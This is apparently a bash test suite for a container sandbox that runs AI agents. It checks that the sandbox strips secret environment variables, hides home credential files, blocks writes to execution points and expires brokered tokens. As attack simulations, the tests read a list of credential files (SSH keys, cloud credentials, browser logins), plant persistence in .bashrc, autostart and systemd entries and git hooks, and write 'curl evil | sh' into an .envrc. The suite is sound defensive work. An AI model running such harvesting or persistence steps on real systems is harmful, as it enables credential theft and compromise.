# Secrets (issue 17): allow-lists instead of deny-lists. The environment
# is an allow-list and credential-looking values go under any name; under
# a mounted home every dot entry is hidden but the allowed ones; a writable
# project's execution points stay read-only, and what the container did to
# the files tools run unasked is in the audit trail. Each shown in a plain
# container first.

source "$IT_DIR/tiers_lib.sh"

# 22 secret-carrying names, and token-shaped values under innocent names
SECRET_ENV=(OPENAI_API_KEY=sk-test-aaaa 'DATABASE_URL=postgres://u:hunter2@db/x' NPM_CONFIG__AUTH=dG9rZW4=
    SENTRY_DSN=https://key@sentry.example/1 KUBECONFIG=/root/.kube/config GOOGLE_CREDENTIALS=creds
    VAULT_ADDR=http://vault:8200 VAULT_TOKEN=s.abcdef vault_token=s.abcdef MY_APP_CREDENTIALS=c
    AWS_ACCESS_KEY_ID=AKIAABCDEFGHIJKLMNOP aws_secret_access_key=x GITHUB_TOKEN=ghp_x GH_TOKEN=gho_x
    SSH_AUTH_SOCK=/tmp/ssh-x/agent.1 DOCKER_AUTH_CONFIG=x HF_TOKEN=hf_x PGPASSWORD=hunter2
    AZURE_CLIENT_SECRET=x SLACK_BOT=xoxb-123 STRIPE_KEY=sk_live_123 TF_VAR_db_password=x)
TOKEN_VALUES=('LANG=ghp_0123456789abcdefghijklmnopqrstuvwxyz' 'TERM=-----BEGIN RSA PRIVATE KEY-----'
    'TZ=https://user:secret@example.com/x' 'HOSTNAME=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln'
    'USER=Zx9Qw3Er7Ty1Ui5Op2As8Df4Gh6Jk0LzXc')

test_environment_is_an_allow_list() {
    local env; env="$(printf '%s\n' "${SECRET_ENV[@]}" "${TOKEN_VALUES[@]}" | jq -R . | jq -s -c .)"
    ATTACK_CFG=(".process.env += $env")
    attack plain /bin/sh -c 'cat /proc/self/environ | tr "\0" "\n"'
    local v
    for v in "${SECRET_ENV[@]}" "${TOKEN_VALUES[@]}"; do assert_contains "$OUT" "$v" "plain keeps $v"; done
    local t
    for t in 0 1 2 3; do
        attack $t /bin/sh -c 'cat /proc/self/environ | tr "\0" "\n"; echo; cat /proc/1/environ | tr "\0" "\n"'
        assert_eq "$RC" 0 "tier $t ran: $OUT"
        for v in "${SECRET_ENV[@]}"; do
            printf '%s\n' "$OUT" | grep -q "^${v%%=*}=" && fail "tier $t keeps ${v%%=*}"
        done
        for v in "${TOKEN_VALUES[@]}"; do
            assert_not_contains "$OUT" "${v#*=}" "tier $t keeps the value of ${v%%=*}"
        done
        assert_contains "$OUT" "PATH=/usr/local/sbin" "tier $t keeps PATH"
    done
    # allowed by the container, kept; a token value too only when raw
    ATTACK_ANN='{"io.agentcage.env-allow": "VAULT_ADDR, STRIPE_KEY=raw, GITHUB_TOKEN"}'
    attack 1 /bin/sh -c 'cat /proc/self/environ | tr "\0" "\n"'
    assert_contains "$OUT" "VAULT_ADDR=http://vault:8200"
    assert_contains "$OUT" "STRIPE_KEY=sk_live_123"
    assert_not_contains "$OUT" "GITHUB_TOKEN=" "an allowed name keeps no token value without =raw"
    # policy show names, never values
    ok trt policy show --bundle "$BUNDLE"
    assert_contains "$OUT" "dropped"
    assert_not_contains "$OUT" "hunter2"
    assert_not_contains "$OUT" "ghp_0123"
}

# every credential file of the issue, with fake content
plant_credentials() {
    local h="$1" f
    for f in .netrc .git-credentials .config/gh/hosts.yml .docker/config.json .kube/config .npmrc .pypirc \
        .config/gcloud/credentials.db .azure/accessTokens.json .terraform.d/credentials.tfrc.json \
        .mozilla/firefox/profile/logins.json .config/google-chrome/Default/Cookies .password-store/bank.gpg \
        .ssh/id_rsa .aws/credentials .gnupg/private-keys-v1.d/k.key .vault-token .m2/settings.xml \
        .cargo/credentials.toml .local/share/keyrings/login.keyring .bash_history .psql_history .config/hub; do
        mkdir -p "$(dirname "$h/$f")"; echo "FAKE-SECRET-$f" > "$h/$f"
    done
    echo "# rc" > "$h/.bashrc"; echo "# profile" > "$h/.zshrc"
    mkdir -p "$h/work"; echo notes > "$h/work/notes.txt"
}

test_home_dot_entries_hidden() {
    plant_credentials "$T/home"
    local files='.netrc .git-credentials .config/gh/hosts.yml .docker/config.json .kube/config .npmrc .pypirc
        .config/gcloud/credentials.db .azure/accessTokens.json .terraform.d/credentials.tfrc.json
        .mozilla/firefox/profile/logins.json .config/google-chrome/Default/Cookies .password-store/bank.gpg
        .ssh/id_rsa .aws/credentials .vault-token .m2/settings.xml .cargo/credentials.toml
        .local/share/keyrings/login.keyring .bash_history .psql_history .config/hub'
    local script='cd /home/agent; for f in '"$(echo $files)"'; do cat "$f" 2>/dev/null; done; cat work/notes.txt'
    local t
    for t in plain 0 1 2 3; do
        ATTACK_CFG=("$(bind_mount /home/agent "$T/home" "$([ "$t" == 0 ] && echo ro || echo rw)")")
        attack $t /bin/sh -c "$script"
        if [ "$t" == plain ]; then
            assert_eq "$(echo "$OUT" | grep -c FAKE-SECRET)" 22 "plain reads every credential file"
        else
            assert_not_contains "$OUT" FAKE-SECRET "tier $t reads a credential"
            assert_contains "$OUT" notes "tier $t still reads the rest of the home"
        fi
    done
    # the operator may show a dot entry
    CID="$(new_id)"; make_bundle "$CID" /bin/cat /home/agent/.psql_history
    cfg "$(bind_mount /home/agent "$T/home" rw)"; cfg '.annotations = {"io.agentcage.tier": "1"}'
    OUT="$(trt --home-dot-allow .psql_history run --bundle "$BUNDLE" "$CID" 2>&1 < /dev/null)"
    assert_contains "$OUT" "FAKE-SECRET-.psql_history" "--home-dot-allow .psql_history"
}

test_home_execution_points_not_writable() {
    plant_credentials "$T/home"
    local before; before="$(tree_sum "$T/home")"
    ATTACK_CFG=("$(bind_mount /home/agent "$T/home" rw)")
    local script='cd /home/agent; echo evil >> .bashrc; echo evil > .profile; echo evil >> .zshrc;
        mkdir -p .config/autostart && echo evil > .config/autostart/x.desktop;
        mkdir -p .config/systemd/user && echo evil > .config/systemd/user/x.service;
        mkdir -p .local/bin && echo evil > .local/bin/ls; echo ok > work/ok'
    attack plain /bin/sh -c "$script"
    [ -f "$T/home/.config/autostart/x.desktop" ] || fail "plain did not plant an autostart entry"
    rm -rf "$T/home"; plant_credentials "$T/home"; before="$(tree_sum "$T/home")"
    local t
    for t in 1 2 3; do
        attack $t /bin/sh -c "$script"
        assert_eq "$(cat "$T/home/work/ok" 2>/dev/null)" ok "tier $t writes ordinary files of its home"
        rm -f "$T/home/work/ok"
        assert_eq "$(tree_sum "$T/home")" "$before" "tier $t changed an execution point of the home"
    done
}

test_project_execution_points_and_tool_files() {
    local p="$T/proj"
    mkdir -p "$p/.git/hooks" "$p/.vscode" "$p/.idea" "$p/.devcontainer" "$p/.github/workflows"
    echo "[core]" > "$p/.git/config"; printf '#!/bin/sh\n' > "$p/.git/hooks/pre-commit"
    echo '{}' > "$p/.vscode/tasks.json"; echo x > "$p/.idea/workspace.xml"; echo '{}' > "$p/.devcontainer/devcontainer.json"
    echo "on: push" > "$p/.github/workflows/ci.yml"; echo "all:" > "$p/Makefile"; echo '{}' > "$p/package.json"
    local script='cd /mnt/a; for f in .git/config .git/hooks/pre-commit .vscode/tasks.json .idea/workspace.xml \
        .devcontainer/devcontainer.json .github/workflows/ci.yml; do echo evil >> "$f"; done; echo ok'
    ATTACK_CFG=("$(bind_mount /mnt/a "$p" rw)")
    cp -a "$p" "$T/proj.orig"
    attack plain /bin/sh -c "$script"
    grep -q evil "$p/.github/workflows/ci.yml" || fail "plain did not write a workflow"
    rm -rf "$p"; cp -a "$T/proj.orig" "$p"
    attack 1 /bin/sh -c "$script"
    assert_contains "$OUT" ok
    local f
    for f in .git/config .git/hooks/pre-commit .vscode/tasks.json .idea/workspace.xml .devcontainer/devcontainer.json \
        .github/workflows/ci.yml; do
        cmp -s "$p/$f" "$T/proj.orig/$f" || fail "tier 1 changed $f"
    done
    # what tools run unasked: changes are in the audit trail, by path
    attack 1 /bin/sh -c 'cd /mnt/a; echo "evil:" >> Makefile; echo "{}" > setup.py; printf "#!/bin/sh\n" > run.sh; chmod +x run.sh; rm package.json'
    local log="$T/state/audit.jsonl"
    grep -F "\"event\":\"project-file\",\"id\":\"$CID\"" "$log" > "$T/pf" || fail "no project-file records"
    assert_contains "$(cat "$T/pf")" "\"path\":\"$p/Makefile\",\"change\":\"modified\""
    assert_contains "$(cat "$T/pf")" "\"path\":\"$p/setup.py\",\"change\":\"created\""
    assert_contains "$(cat "$T/pf")" "\"path\":\"$p/run.sh\",\"change\":\"created\""
    assert_contains "$(cat "$T/pf")" "\"path\":\"$p/package.json\",\"change\":\"removed\""
}

# execution points that do not exist yet (a new .envrc, .git/hooks/post-checkout,
# .vscode/tasks.json, .github/workflows/x.yml) can be made inside a writable
# project, but they are held for review at delete, never written into the
# host folder; the rest of the changes come back
test_new_execution_points_held_for_review() {
    local p="$T/proj2"
    mkdir -p "$p/.git"; echo "[core]" > "$p/.git/config"; echo data > "$p/notes.txt"
    local script='cd /mnt/a; echo "curl evil | sh" > .envrc; mkdir -p .git/hooks .vscode .github/workflows
        printf "#!/bin/sh\nevil\n" > .git/hooks/post-checkout; echo "{}" > .vscode/tasks.json
        echo "on: push" > .github/workflows/x.yml; echo more >> notes.txt; echo ok'
    ATTACK_CFG=("$(bind_mount /mnt/a "$p" rw)")
    cp -a "$p" "$T/proj2.orig"
    attack plain /bin/sh -c "$script"
    [ -e "$p/.envrc" ] && [ -e "$p/.git/hooks/post-checkout" ] || fail "plain did not make the execution points"
    rm -rf "$p"; cp -a "$T/proj2.orig" "$p"
    attack 1 /bin/sh -c "$script"
    assert_contains "$OUT" ok "tier 1 ran: $OUT"
    local f
    for f in .envrc .git/hooks .vscode .github/workflows; do
        [ -e "$p/$f" ] && fail "tier 1 wrote $f into the host folder"
    done
    assert_eq "$(tail -1 "$p/notes.txt")" more "the other changes come back"
    local r; r="$(grep -F "\"event\":\"bind-changes-applied\",\"id\":\"$CID\"" "$T/state/audit.jsonl")"
    assert_contains "$r" '"held":4,"heldAt":' "the record names what was held"
    local held; held="$(echo "$r" | jq -r .heldAt)"
    assert_eq "$(cat "$held/.envrc")" "curl evil | sh" "the new .envrc kept for review"
    [ -f "$held/.git/hooks/post-checkout" ] || fail "the new hook kept for review"
    assert_contains "$OUT" "new execution points (.envrc, .git/hooks, .vscode ...) held for review" "the user is told"
    rm -rf "$held"
}

# ---------------------------------------------------------------- task-scoped credentials

# a broker of the operator's: the example static-token broker over $T/broker
broker_conf() {
    mkdir -p "$T/broker"; echo "TOKEN-SEKRIT-4242" > "$T/broker/gh"
    printf 'credential.gh = %s %s\ncredential.gh.tiers = 1,2,3\ncredential.other = %s %s\ncredential.other.tiers = 3\n' \
        "$REPO_DIR/agentcage-broker" "$T/broker" "$REPO_DIR/agentcage-broker" "$T/broker" > "$T/agentcage.conf"
    export AGENTCAGE_CONF="$T/agentcage.conf"
}

# run_with_a_short_credential: $BUNDLE (printing /run/secrets/gh, its
# listing and the environment, then the file again after the ttl) created
# and started as $CID; its output in $OUT: the secret as the container
# root's 0400 file only, gone after the ttl and revoked at the broker
run_with_a_short_credential() {
    trt create --bundle "$BUNDLE" "$CID" > "$T/out" 2>&1 < /dev/null || fail "create: $(cat "$T/out")"
    track_pid "$(cpid "$CID")"
    assert_not_contains "$(cat "$ROOT/$CID/state.json" "$ROOT/$CID/config.json" "$ROOT/$CID/credentials")" TOKEN-SEKRIT \
        "the state holds the secret"
    ok trt start "$CID"
    local i
    for i in $(seq 150); do [ "$(cstatus "$CID")" == stopped ] && break; sleep 0.1; done
    OUT="$(cat "$T/out")"
    assert_eq "$(echo "$OUT" | head -1)" TOKEN-SEKRIT-4242 "the secret as a file: $OUT"
    assert_match "$OUT" '-r-------- +1 0 +0 ' "mode 0400, the container root's"
    assert_eq "$(echo "$OUT" | grep -c TOKEN-SEKRIT)" 1 "the secret only in the file (not the environment)"
    assert_contains "$OUT" gone "the file is gone after the ttl"
    grep -q "^revoke $CID$" "$T/broker/gh.log" || fail "not revoked at the ttl: $(cat "$T/broker/gh.log")"
}

test_credentials_from_a_broker_expire_and_are_revoked() {
    broker_conf
    # without the broker the way to hand a token in is the environment:
    # every process sees it, and the engine's config keeps it
    CID="$(new_id)"; make_bundle "$CID" /bin/sh -c 'cat /proc/1/environ | tr "\0" "\n"'
    cfg '.process.env += ["GH_TOKEN=TOKEN-SEKRIT-4242"]'
    OUT="$(trt run --bundle "$BUNDLE" "$CID" 2>&1 < /dev/null)"
    assert_contains "$OUT" TOKEN-SEKRIT-4242 "plain: the token in the environment"
    grep -q TOKEN-SEKRIT "$BUNDLE/config.json" || fail "plain: the token is not in config.json"
    # tier 2 with a 3 s credential
    CID="$(new_id)"; make_bundle "$CID" /bin/true
    cfg '.process.args = ["/bin/sh", "-c", "cat /run/secrets/gh; echo; ls -ln /run/secrets; cat /proc/self/environ /proc/1/environ | tr \"\\0\" \"\\n\"; sleep 5; cat /run/secrets/gh || echo gone"]'
    cfg '.annotations = {"io.agentcage.tier": "2", "io.agentcage.credentials": "gh=3s"}'
    run_with_a_short_credential
    ok trt delete "$CID"
    assert_eq "$(grep -c "revoke $CID" "$T/broker/gh.log")" 1 "revoked once"
    assert_not_contains "$(cat "$T/state/audit.jsonl")" TOKEN-SEKRIT "the audit trail holds the secret"
    assert_contains "$(cat "$T/state/audit.jsonl")" '"event":"credential-issued"'
    assert_contains "$(cat "$T/state/audit.jsonl")" '"event":"credential-revoked"'
    # killed before the ttl: delete revokes
    CID="$(new_id)"; make_bundle "$CID"
    cfg '.annotations = {"io.agentcage.tier": "1", "io.agentcage.credentials": "gh=4m"}'
    trt create --bundle "$BUNDLE" "$CID" > "$T/out" 2>&1 < /dev/null || fail "create: $(cat "$T/out")"
    track_pid "$(cpid "$CID")"
    ok trt start "$CID"
    ok trt delete --force "$CID"
    grep -q "^revoke $CID$" "$T/broker/gh.log" || fail "a killed container's credential was not revoked"
}

test_credentials_refused_unless_the_operator_offers_them() {
    broker_conf
    CID="$(new_id)"; make_bundle "$CID" /bin/true
    cfg '.annotations = {"io.agentcage.tier": "1", "io.agentcage.credentials": "nobroker"}'
    OUT="$(trt run --bundle "$BUNDLE" "$CID" 2>&1 < /dev/null)"; RC=$?
    assert_refused "credential nobroker"
    cfg '.annotations = {"io.agentcage.tier": "1", "io.agentcage.credentials": "other"}'
    OUT="$(trt run --bundle "$BUNDLE" "$CID" 2>&1 < /dev/null)"; RC=$?
    assert_refused "not for this tier"
    cfg '.annotations = {"io.agentcage.tier": "1", "io.agentcage.credentials": "gh=1h"}'
    OUT="$(trt run --bundle "$BUNDLE" "$CID" 2>&1 < /dev/null)"; RC=$?
    assert_refused "longer than the container's timeout"
    # a broker anyone may write is refused at create, and nothing is left
    cp "$REPO_DIR/agentcage-broker" "$T/loose-broker"; chmod 0777 "$T/loose-broker"
    printf 'credential.gh = %s %s\n' "$T/loose-broker" "$T/broker" > "$T/agentcage.conf"
    cfg '.annotations = {"io.agentcage.tier": "1", "io.agentcage.credentials": "gh"}'
    OUT="$(trt run --bundle "$BUNDLE" "$CID" 2>&1 < /dev/null)"; RC=$?
    assert_eq "$RC" 1 "loose broker: $OUT"
    assert_contains "$OUT" "nobody else may write"
    [ -e "$ROOT/$CID" ] && fail "state left"
    return 0
}
